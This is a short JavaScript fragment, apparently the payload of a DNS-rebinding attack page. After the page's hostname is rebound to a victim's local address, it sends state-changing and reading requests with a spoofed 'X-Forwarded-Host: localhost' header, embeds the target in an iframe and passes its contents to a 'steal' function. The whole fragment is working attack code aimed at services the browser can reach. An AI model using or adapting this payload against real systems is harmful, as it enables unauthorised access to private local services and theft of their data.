// The page's own name now leads to Petit's address: to the browser, all of this is its own origin.
await fetch("/flip");
await nap(50);
await all([...CHANGING], async ({ method, path }) => {
  const headers = { "Content-Type": "application/json", "X-Forwarded-Host": "localhost" };
  await read(fetch(path, { method, headers, body: "{}" }));
  await read(fetch(path, { method }));
});
await all(READING, (path) => read(fetch(path)));
await embed("iframe", { src: "/" });
for (const frame of document.querySelectorAll("iframe")) await steal(frame.contentDocument.querySelector("h1")?.innerText);
